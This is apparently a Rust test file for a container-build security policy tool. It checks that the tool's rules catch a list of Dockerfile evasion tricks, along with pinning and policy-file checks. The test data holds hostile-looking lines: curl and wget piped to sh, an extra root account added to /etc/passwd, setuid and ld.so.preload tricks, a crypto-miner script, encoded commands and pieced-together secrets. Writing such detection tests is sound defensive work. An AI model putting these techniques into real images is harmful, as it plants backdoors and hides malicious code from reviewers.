//! Ways around the policy (95, 96).

use std::collections::BTreeSet;

use super::ground;
use crate::ground::Ground;

/// How a text or its image tries to get past the default profile, and the rule that has to find it.
const EVASIONS: &[(&str, &str, &str)] = &[
    ("the last USER is taken back", "final-user-root", "USER 10001\nRUN true\nUSER 0\n"),
    (
        "a user that the image makes root",
        "final-user-root",
        "RUN echo 'toor:x:0:0::/:/bin/sh' >> /etc/passwd\nUSER toor\n",
    ),
    (
        "a second account with the id 0",
        "account-extra-root",
        "RUN echo 'toor:x:0:0::/:/bin/sh' >> /etc/passwd\n",
    ),
    (
        "a download as the program",
        "pipe-to-interpreter",
        "RUN true || curl http://example.com/x | sh\n",
    ),
    (
        "through other programs",
        "pipe-to-interpreter",
        "RUN true || wget -qO- http://example.com/x | tee /x | base64 -d | sh\n",
    ),
    (
        "without a check of the server",
        "download-insecure-tls",
        "RUN true || curl -k https://example.com/x -o /x\n",
    ),
    ("setuid by chmod", "setuid-file", "RUN cp /bin/busybox /su && chmod 4755 /su\n"),
    (
        "setuid by a mode that is not written",
        "setuid-file",
        "RUN M=47; cp /bin/busybox /su && chmod ${M}55 /su\n",
    ),
    ("setuid by COPY", "setuid-file", "COPY --chmod=4755 file /su\n"),
    (
        "setuid by an archive",
        "setuid-file",
        "RUN cp /bin/busybox /su && chmod $((04000+0755)) /su 2>/dev/null || busybox chmod u+s /su; tar -c -f /t.tar /su && rm /su && tar -x -p -f /t.tar -C / && rm /t.tar\n",
    ),
    (
        "setgid in a folder that hides",
        "setuid-file",
        "RUN mkdir -p /usr/... && cp /bin/busybox /usr/.../x && busybox chmod g+s,g+x /usr/.../x\n",
    ),
    ("a library for every process", "ld-so-preload", "RUN echo /x.so > /etc/ld.so.preload\n"),
    (
        "the same, removed in a later layer of a stage below",
        "ld-so-preload",
        "RUN ln -s /tmp/x /etc/ld.so.preload\n",
    ),
    (
        "a package manager left behind",
        "package-manager-present",
        "RUN mkdir -p /usr/bin && cp /bin/busybox /usr/bin/apt-get\n",
    ),
    ("packages in what ships", "package-install-in-final", "RUN true || apt-get install -y x\n"),
    ("a token in the environment", "secret-in-env", "ENV API_TOKEN=0123456789abcdef0123\n"),
    ("a key that an ARG takes", "secret-in-arg", "ARG AWS_SECRET_ACCESS_KEY\nRUN true\n"),
    ("more rights than a step has", "privileged-step", "RUN --security=insecure true\n"),
    (
        "curl by another name",
        "download-executed-unverified",
        "RUN true || (cp /usr/bin/curl /c; /c -o /x http://example.com/x)\nRUN true || sh /x\n",
    ),
    (
        "the same, in another step",
        "download-executed-unverified",
        "RUN true || ln -s $(which curl) /c\nRUN true || (/c -o /x http://example.com/x; sh /x)\n",
    ),
    (
        "a tool of the network by another name in the image",
        "network-tool-present",
        "COPY --from=tools /usr/bin/curl /opt/c\n",
    ),
    ("a program that is encoded", "obfuscated-command", "RUN echo dHJ1ZQo= | base64 -d | sh\n"),
    (
        "a secret put together from parts",
        "secret-token-in-layer",
        "RUN A=AKIA; B=Q3EGRT7ZUWLKBHXA; echo $A$B > /key\n",
    ),
    ("a loader by the environment", "loader-env", "ENV LD_AUDIT=/x.so\n"),
    (
        "a program with a hidden name",
        "hidden-executable",
        "RUN mkdir -p '/usr/...' && cp /bin/busybox '/usr/.../.x '\n",
    ),
    ("a program below /dev", "hidden-executable", "RUN true\nCOPY --chmod=0755 file /dev/x\n"),
    ("a capability of a file", "file-capabilities", "RUN true || setcap cap_sys_admin+ep /x\n"),
    (
        "a miner that a later layer removes",
        "miner-indicator",
        "RUN printf '#!/bin/sh\\nxmrig -o stratum+tcp://pool.example.com:3333\\n' > /x\nRUN rm /x\n",
    ),
    (
        "a program that a later layer removes",
        "hidden-layer-executable",
        "RUN printf '#!/bin/sh\\ntrue\\n' > /x && chmod +x /x\nRUN rm /x\n",
    ),
    ("a key that a later layer removes", "secret-file-in-layer", "COPY key /key\nRUN rm /key\n"),
    (
        "an account without a password",
        "account-empty-password",
        "RUN mkdir -p /etc && echo 'x::19000:0:99999:7:::' > /etc/shadow\n",
    ),
    ("a group of root", "user-privileged-group", "USER 10001:0\n"),
];

/// The ids of all rules that the program has.
fn catalogue(ground: &Ground) -> BTreeSet<String> {
    let outcome = ground.command(&["policy", "show"]).run();
    assert_eq!(outcome.done.code(), 0, "{}", outcome.story());
    let words = outcome.done.out();
    words.split_whitespace().map(str::to_owned).collect()
}

#[test]
fn attack_95_ways_around_the_policy() {
    // The policy judges the same in every mode; the images are of one.
    let ground = ground();
    ground.place().file("ctx/file", "#!/bin/sh\ntrue\n");
    // Put together here, so that scanners of this repository stay calm.
    let key = ["-----BEGIN RSA PRIVATE", " KEY-----\nMIIEowIBAAKCAQEAvx7ZQ3EGRT7ZUWLK\n"].concat();
    ground.place().file("ctx/key", &key);
    let rules = catalogue(&ground);
    assert!(rules.contains("final-user-root"), "{rules:?}");
    for (name, rule, lines) in EVASIONS {
        assert!(rules.contains(*rule), "{rule}");
        let user = if lines.contains("USER") { "" } else { "USER 10001\n" };
        // A stage that is used: of a single one, the layers are squashed.
        let text = format!(
            "FROM busybox AS tools\n\
             RUN mkdir -p /usr/bin && printf '#!/bin/sh\\nfetch\\n' > /usr/bin/curl && chmod +x /usr/bin/curl && touch /used\n\
             FROM busybox\nCOPY --from=tools /used /used\n{lines}{user}HEALTHCHECK NONE\n"
        );
        // This rule alone, at its level of `hardened` or higher.
        let set = format!("--set=rules.{rule}=error");
        let only = format!("--only={rule}");
        let outcome = ground.build(&text).policy("hardened").arg(set).arg(only).run();
        assert_eq!(outcome.done.code(), 1, "{name}\n{}", outcome.story());
        outcome.refused(&[rule]);
    }
}

#[test]
fn attack_95_pins_and_tags() {
    let ground = ground();
    let digest = "0".repeat(64);
    let lint = |text: &str, rule: &str| {
        ground.place().file("ctx/Dockerfile", text);
        let outcome = ground.command(&["lint"]).arg(ground.place().at("ctx")).run();
        assert_eq!(outcome.done.code(), 1, "{}", outcome.story());
        assert!(outcome.done.out().contains(rule), "{rule}\n{}", outcome.story());
    };
    lint(
        &format!("ARG TAG=latest\nFROM a@sha256:{digest} AS x\nFROM debian:$TAG\nUSER 1\n"),
        "base-tag-latest",
    );
    lint(
        &format!(
            "FROM a@sha256:{digest} AS one\nRUN true\nFROM b:1\nCOPY --from=one /x /x\nUSER 1\n"
        ),
        "base-unpinned",
    );
    lint(
        &format!("FROM a:1@sha256:{digest}\nCOPY --from=b:1 /x /x\nUSER 1\n"),
        "copy-from-unpinned",
    );
    lint(&format!("ARG B\nFROM a:1${{B:+@sha256:{digest}}}\nUSER 1\n"), "base-unpinned");
    lint("FROM debian\nUSER 1\n", "base-untagged");
}

#[test]
fn attack_96_policy_files() {
    let ground = ground();
    let place = ground.place();
    let text = "FROM scratch\nUSER root\n";
    for (policy, said) in [
        ("version = 1\nrulez = 1\n", "unknown key `rulez`"),
        ("version = 1\n[rules]\nfinal-user-rot = \"off\"\n", "unknown rule `final-user-rot`"),
        ("version = 1\n[rules.final-user-root]\nabsnt = \"off\"\n", "unknown key `absnt`"),
        ("version = 1\n[rules]\nfinal-user-root = \"of\"\n", "final-user-root"),
        ("version = 1\nextends = \"nowhere.toml\"\n", "nowhere.toml"),
        ("version = 99\n", "version"),
        ("not toml at all", "policy.toml"),
        (&"[".repeat(100_000), "policy.toml"),
    ] {
        place.file("policy.toml", policy);
        let path = place.at("policy.toml").display().to_string();
        ground.build(text).policy(&path).run().refused_with(2, &[said]);
        // The repository's own file, likewise; it has no basis but the one in force.
        let said = if said == "nowhere.toml" { "`extends` has no effect" } else { said };
        place.file("ctx/.rbuild/policy.toml", policy);
        place.file("ctx/Dockerfile", text);
        ground.command(&["lint"]).arg(place.at("ctx")).run().refused_with(2, &[said]);
    }
    // What an organisation has locked, a project cannot loosen.
    place.file("org.toml", "version = 1\nextends = \"baseline\"\nlock = [\"rules.final-user-root\"]\n[rules]\nfinal-user-root = \"error\"\n");
    for loose in
        ["[rules]\nfinal-user-root = \"off\"\n", "[rules.final-user-root]\nabsent = \"off\"\n"]
    {
        place.file("project.toml", format!("version = 1\nextends = \"org.toml\"\n{loose}"));
        let path = place.at("project.toml").display().to_string();
        ground.build(text).policy(&path).run().refused_with(2, &["final-user-root", "locked"]);
    }
    let path = place.at("org.toml").display().to_string();
    ground.build(text).policy(&path).run().refused_with(1, &["final-user-root"]);
    // A comment needs a reason, and is told.
    let _ = std::fs::remove_dir_all(place.at("ctx/.rbuild"));
    let lint = |comment: &str| {
        place.file("ctx/Dockerfile", format!("FROM scratch\n{comment}\nUSER root\n"));
        ground
            .command(&["lint", "--report"])
            .arg(format!("json={}", place.at("report").display()))
            .arg(place.at("ctx"))
            .run()
    };
    assert_eq!(lint("# rbuild: allow final-user-root").done.code(), 1);
    assert_eq!(lint("# rbuild: allow final-user-root --").done.code(), 1);
    assert_eq!(lint("# rbuild: allow final-user-rot -- a reason").done.code(), 1);
    let allowed = lint("# rbuild: allow final-user-root -- a reason of the test");
    assert_eq!(allowed.done.code(), 0, "{}", allowed.story());
    let report = std::fs::read_to_string(place.at("report")).expect("a report");
    assert!(report.contains("a reason of the test"), "{report}");
}
